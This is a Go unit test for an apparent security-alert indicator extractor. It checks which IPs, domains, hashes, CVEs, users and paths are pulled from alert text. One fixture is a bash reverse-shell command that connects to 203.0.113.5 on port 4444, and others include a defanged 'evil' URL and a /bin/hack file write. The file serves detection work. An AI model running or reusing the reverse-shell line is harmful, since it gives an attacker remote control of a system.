package alert

import (
	"slices"
	"strings"
	"testing"
)

// show writes observables as "type:value", in order.
func show(observables []Observable) []string {
	var s []string
	for _, o := range observables {
		s = append(s, string(o.Type)+":"+o.Value)
	}
	return s
}

func TestObserveText(t *testing.T) {
	t.Parallel()
	tests := map[string]struct {
		text string
		want string // space-separated; "|" separates where values hold blanks
	}{
		"addresses":                {"from 198.51.100.7:443 to 2001:db8::1, range 203.0.113.9/24.", "ip:198.51.100.7 ip:2001:db8::1 ip:203.0.113.0/24"},
		"bracketed IPv6":           {"peer [2001:db8::2]:80 and fe80::1%eth0", "ip:2001:db8::2 ip:fe80::1"},
		"defanged":                 {"hxxps://evil[.]example/a and 198[.]51[.]100[.]7 and bob[@]example[.]com", "url:https://evil.example/a domain:evil.example ip:198.51.100.7 email:bob@example.com"},
		"versions":                 {"version 1.2.3.4, v1.2.3.4, foo-1.2.3.4, Chrome/120.0.0.0, upgraded from 10.1.2.3 to 10.1.2.4", ""},
		"file names":               {"report.pdf cmd.exe main.py install.sh README.md index.js foo.zip", ""},
		"class names":              {"java.lang.String com.example.Foo user.session.start github.actions app.kubernetes.io/name e.g. i.e. System.Net", ""},
		"times and ids":            {"at 10:20:30 on 2026-01-01T10:20:30.123Z id 7f2c1d34-1111-2222-3333-444455556666", ""},
		"digest":                   {"file 44d88612fea8a8f36de82e1278abb02f found; image nginx@sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", "hash:44d88612fea8a8f36de82e1278abb02f"},
		"CVE":                      {"exploits cve-2021-44228 and CVE_2022_1234 (CVE-2023-12345)", "cve:CVE-2021-44228 cve:CVE-2022-1234 cve:CVE-2023-12345"},
		"falco":                    {"Error (user=root command=touch /bin/hack file=/bin/hack)", "user:root file:/bin/hack"},
		"Windows paths":            {`ran C:\Program Files\Foo\bar.exe as CORP\alice, see \\fs01\share\x.txt`, `file:C:\Program Files\Foo\bar.exe|user:alice|file:\\fs01\share\x.txt`},
		"ARN":                      {"role arn:aws:iam::123456789012:role/Admin was assumed", "resource:arn:aws:iam::123456789012:role/Admin account:123456789012"},
		"reverse shell":            {"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "ip:203.0.113.5"},
		"Japanese":                 {"端末192.0.2.8がexample.jpに接続した。", "ip:192.0.2.8 domain:example.jp"},
		"a server path is no file": {"GET /api/v1/users HTTP/1.1 from 192.0.2.1", "ip:192.0.2.1"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var want []string
			if strings.Contains(tt.want, "|") {
				want = strings.Split(tt.want, "|")
			} else {
				want = strings.Fields(tt.want)
			}
			got := show(Observe(&Alert{Description: tt.text}))
			if !slices.Equal(got, want) {
				t.Errorf("%s\n got %q\nwant %q", tt.text, got, want)
			}
		})
	}
}
